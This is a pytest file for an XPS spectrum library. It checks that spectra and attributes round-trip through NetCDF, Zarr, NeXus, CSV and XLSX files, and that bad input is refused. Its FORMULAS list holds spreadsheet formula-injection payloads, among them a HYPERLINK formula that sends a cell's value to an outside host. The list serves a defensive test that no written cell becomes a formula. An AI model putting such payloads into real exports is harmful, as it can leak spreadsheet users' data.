"""What is written is read back equal, or refused before it is written; no cell is a formula."""

import csv
import datetime
import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import xarray as xr

import xpsnet
from xpsnet import read, read_fit, write
from xpsnet.data.spectrum import check_spectra
from xpsnet.samples import sample_truth

ENERGY = np.linspace(281.0, 292.0, 111)
STORES = ("nc", "zarr", "nxs")
TABLES = ("csv", "xlsx")


def _map(**changes: Any) -> xr.DataArray:
    counts = np.random.default_rng(0).poisson(100.0, (3, 4, ENERGY.size)).astype(float)
    coords = {"y": [0.0, 1.0, 2.0], "x": [0.0, 1.0, 2.0, 3.0], "energy": ENERGY}
    attrs = {"scale": "binding", "units": "counts", "n_scans": 3}
    array = xr.DataArray(counts, coords, ("y", "x", "energy"), "C 1s", attrs)
    return check_spectra(array.assign_attrs(changes))


def _spectrum(**changes: Any) -> xr.DataArray:
    return _map(**changes)[0, 0].drop_vars(["x", "y"])


def _with(places: dict[int, float]) -> xr.DataArray:
    counts = _spectrum()
    for place, value in places.items():
        counts[place] = value
    return counts


# Attributes by what comes back of them.
ATTRIBUTES: dict[str, tuple[Any, Any]] = {
    "numpy text": (np.str_("a"), "a"),
    "numpy texts": (np.array(["a", "b"]), ["a", "b"]),
    "numpy numbers": (np.array([1.0, 2.5]), [1.0, 2.5]),
    "table of numbers": (np.arange(6).reshape(2, 3), [[0, 1, 2], [3, 4, 5]]),
    "numpy boolean": (np.True_, 1),
    "float16": (np.float16(1.5), 1.5),
    "long float": (np.longdouble(1.5), 1.5),
    "zero byte": ("a\0b", "a\0b"),
    "texts with a zero byte": (["a\0", "b"], ["a\0", "b"]),
    "half a character": ("a\ud800", "a\ud800"),
    "large integer": (10**30, 10**30),
    "very large integer": (10**400, 10**400),
    "large integers": ([10**30, 1], [10**30, 1]),
    "unsigned": (2**64 - 1, 2**64 - 1),
    "not a number": (np.nan, np.nan),
    "infinite": (-np.inf, -np.inf),
    "one in a list": ([5], [5]),
    "empty list": ([], []),
    "mixed": ([1, "b"], [1, "b"]),
    "ragged": ([[1], [2, 3]], [[1], [2, 3]]),
    "tuple": (("a", "b"), ["a", "b"]),
    "dict": ({"a": {"b": [1, None]}}, {"a": {"b": [1, None]}}),
    "long text": ("x" * 70_000, "x" * 70_000),
    "other alphabets": ("\u5cf0 \u00b5 \u0416 \U0001f600", "\u5cf0 \u00b5 \u0416 \U0001f600"),
    "date": (datetime.date(2024, 1, 1), "2024-01-01"),
    "numpy date": (np.datetime64("2024-01-01"), "2024-01-01"),
    "path": (Path("x"), "x"),
    "complex": (1j, "1j"),
    "masked": (np.ma.masked, "--"),
}


@pytest.mark.parametrize("extension", [*STORES, *TABLES])
@pytest.mark.parametrize("kind", ATTRIBUTES)
def test_attributes_of_every_kind_come_back(tmp_path: Path, kind: str, extension: str) -> None:
    given, expected = ATTRIBUTES[kind]
    spectrum = _spectrum(mine=given)
    write(spectrum, tmp_path / f"a.{extension}")
    (back,) = read(tmp_path / f"a.{extension}")
    np.testing.assert_equal(back.attrs["mine"], expected)
    np.testing.assert_array_equal(back, spectrum)
    assert set(back.attrs) == set(spectrum.attrs)


@pytest.mark.parametrize("extension", [*STORES, *TABLES])
@pytest.mark.parametrize(
    "name",
    ["scale_factor", "add_offset", "_FillValue", "missing_value", "coordinates", "dtype",
     "calendar", "CLASS", "type", "signal", "NX_class", "my/key", "", "\u5cf0", "=1+1"],
)  # fmt: skip
def test_no_name_of_an_attribute_changes_the_counts(
    tmp_path: Path, name: str, extension: str
) -> None:
    spectrum = _spectrum(**{name: 2.5})
    write(spectrum, tmp_path / f"a.{extension}")
    (back,) = read(tmp_path / f"a.{extension}")
    np.testing.assert_array_equal(back, spectrum)
    assert back.attrs[name] == 2.5


@pytest.mark.parametrize("extension", [*STORES, *TABLES])
def test_attributes_of_peaks_of_every_kind_come_back(tmp_path: Path, extension: str) -> None:
    given = {kind: value for kind, (value, _) in ATTRIBUTES.items()}
    peaks = sample_truth("spectrum").assign_attrs(given)
    peaks["center"].attrs |= given
    write(peaks, tmp_path / f"a.{extension}")
    (back,) = read_fit(tmp_path / f"a.{extension}")
    for kind, (_, expected) in ATTRIBUTES.items():
        np.testing.assert_equal(back.attrs[kind], expected)
        np.testing.assert_equal(back["center"].attrs[kind], expected)
    np.testing.assert_array_equal(back["center"], peaks["center"])


def _shapes() -> dict[str, xr.DataArray]:
    """Spectra that tables lost once, or could lose."""
    grid = _map()
    dead = grid.copy()
    dead[1, 2] = np.nan
    return {
        "a dead pixel": dead,
        "a dead column": grid.where(grid.x != 3.0),
        "a missing row at the end": grid.where(grid.energy < 291.9),
        "no counts at all": grid * np.nan,
        "infinite": _with({3: np.inf, 5: -np.inf}),
        "two points": _spectrum()[:2],
        "three points": _spectrum()[:3],
        "four points of a map": grid[..., :4],
        "descending": _spectrum()[::-1],
        "lengths of time": grid.assign_coords(t=("x", np.arange(4).astype("m8[ns]"))),
        "dates": grid.assign_coords(t=("x", np.array(["2024-01-01"] * 4, dtype="M8[ns]"))),
        "truths": grid.assign_coords(t=("x", [True, False, True, True])),
        "other alphabets": grid.rename("\u78b3 1s \u0416").rename(x="\u4f4d\u7f6e"),
        "a formula as name": grid.rename("=1+1").rename(x="-x"),
        "signs in the name": _spectrum().rename('a"b,c\nd/e [f] g=1'),
        "blanks around the name": _spectrum().rename(" a "),
        "a text as photon energy": _spectrum(photon_energy="1486.6 eV"),
        "no number of scans": _spectrum(n_scans=np.nan, dwell_time="?"),
    }


@pytest.mark.parametrize("extension", [*STORES, *TABLES])
@pytest.mark.parametrize("name", _shapes())
def test_spectra_of_every_kind_come_back_equal(tmp_path: Path, name: str, extension: str) -> None:
    spectra = _shapes()[name]
    write(spectra, tmp_path / f"a.{extension}")
    (back,) = read(tmp_path / f"a.{extension}")
    xr.testing.assert_identical(back, spectra)


@pytest.mark.parametrize("extension", [*STORES, *TABLES])
def test_all_of_several_spectra_come_back(tmp_path: Path, extension: str) -> None:
    several = list(_shapes().values())
    write(several, tmp_path / f"a.{extension}")
    back = read(tmp_path / f"a.{extension}")
    assert len(back) == len(several)
    for one, two in zip(back, several, strict=True):
        xr.testing.assert_identical(one, two)


REFUSED = {
    "mixed objects": (
        _map().assign_coords(t=("x", np.array([1, "a", None, 2.5], dtype=object))),
        (*STORES, *TABLES),
        "expected numbers, times or texts in the coordinate 't', got int",
    ),
    "bytes": (
        _map().assign_coords(t=("x", np.array([b"a", b"b", b"c", b"d"]))),
        TABLES,
        "in the coordinate 't', got bytes",
    ),
    "complex": (_map().assign_coords(t=("x", np.arange(4) * 1j)), TABLES, "'t', got complex"),
    "zero byte in a coordinate": (
        _map().assign_coords(t=("x", ["a\0b", "c", "d", "e"])),
        STORES,
        "expected texts without a zero byte",
    ),
    "zero byte in a name": (_spectrum().rename("a\0b"), (*STORES, "vms"), "without a zero byte"),
    "zero byte in a dimension": (_map().rename(x="a\0"), STORES, "names of dimensions without"),
    "half a character": (_spectrum().rename("a\ud800"), (*STORES, "vms"), "half a character"),
    "empty": (_map()[:0], (*TABLES, "vms"), "expected at least one spectrum, got an array of"),
    "infinite": (_with({3: np.inf}), ("vms",), r"expected counts below 1e\+37 for VAMAS"),
    "unknown": (_with({3: 1e40}), ("vms",), r"expected counts below 1e\+37 for VAMAS"),
}


@pytest.mark.parametrize(
    ("name", "extension"), [(name, one) for name, (_, all_, _) in REFUSED.items() for one in all_]
)
def test_what_cannot_come_back_is_refused(tmp_path: Path, name: str, extension: str) -> None:
    spectra, _, message = REFUSED[name]
    with pytest.raises(ValueError, match=message):
        write(spectra, tmp_path / f"a.{extension}")
    assert list(tmp_path.iterdir()) == []


def test_unknown_chunks_of_dask_are_refused(tmp_path: Path) -> None:
    import dask.array

    rows = dask.array.from_array(_map().values.reshape(12, -1), chunks=(3, -1))
    chosen = rows[rows[:, 0] > 0]
    attrs = {"scale": "binding"}
    spectra = xr.DataArray(chosen, {"energy": ENERGY}, ("place", "energy"), "C 1s", attrs)
    for call in (lambda: write(spectra, tmp_path / "a.nc"), lambda: xpsnet.fit(spectra)):
        with pytest.raises(ValueError, match=r"chunks of known size, got the shape \(nan, 111\)"):
            call()


FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://a/?"&D2,"b")', "\t=1", "\uff1d1",
            " =1", "'=1", "a,=1+1", 'a","=1+1', "a;@b", "x\n=1"]  # fmt: skip


def _cells(path: Path, separator: str) -> list[str]:
    """Cells of a csv file as a spreadsheet has them, the lines above the table included."""
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file, delimiter=separator) for cell in row]


def _is_formula(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula."""
    start = cell.lstrip(" \t\r\n\"'")[:1]
    plain = cell.lstrip(" \t\r\n")
    try:
        float(cell)
    except ValueError:
        return start in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and not plain.startswith("'")
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path, text: str) -> None:
    spectra = _map().rename(text).assign_coords(file=("x", [text] * 4)).assign_attrs(title=text)
    spectra = spectra.rename(x=text).assign_attrs(**{text: text})
    write(spectra, tmp_path / "a.csv")
    (back,) = read(tmp_path / "a.csv")
    xr.testing.assert_identical(back, spectra)
    peaks = sample_truth("spectrum").assign_attrs(region=text, title=text)
    peaks = peaks.assign({text: ("peak", [1.0, 2.0, 3.0])})
    peaks = peaks.assign_coords(label=("peak", [text] * 3))
    write(peaks, tmp_path / "b.csv")
    (again,) = read_fit(tmp_path / "b.csv")
    xr.testing.assert_identical(again, peaks)
    for path in (tmp_path / "a.csv", tmp_path / "b.csv"):
        for separator in (",", ";", "\t"):
            assert [cell for cell in _cells(path, separator) if _is_formula(cell)] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(tmp_path: Path, text: str) -> None:
    import openpyxl

    write(_map().rename(text).assign_attrs(title=text), tmp_path / "a.xlsx")
    write(sample_truth("spectrum").assign_attrs(region=text), tmp_path / "b.xlsx")
    for name in ("a.xlsx", "b.xlsx"):
        for sheet in openpyxl.load_workbook(tmp_path / name).worksheets:
            kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
            assert "f" not in kinds


def test_a_changed_csv_is_read_as_it_is(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write(_map(), path)
    text = path.read_text(encoding="utf-8")
    lines = text.split("\n")
    shorter = [line.rpartition(",")[0] if i >= 4 and line else line for i, line in enumerate(lines)]
    path.write_text("\n".join(shorter), encoding="utf-8")
    with pytest.warns(xpsnet.XpsnetWarning, match="the description of the table .* is left out"):
        (back,) = read(path)
    assert back.size == 11 * ENERGY.size
    path.write_text(text.replace("\n", "\r\n"), encoding="utf-8", newline="")
    xr.testing.assert_identical(read(path)[0], _map())


def test_the_lines_above_a_table_stay_json(tmp_path: Path) -> None:
    write(_spectrum(title="a,=1", share=-0.5, range="-1 to +1"), tmp_path / "a.csv")
    line = (tmp_path / "a.csv").read_text(encoding="utf-8").split("\n")[2]
    assert line.startswith("# attributes: ")
    attrs = json.loads(line.partition(": ")[2])
    assert (attrs["title"], attrs["share"], attrs["range"]) == ("a,=1", -0.5, "-1 to +1")
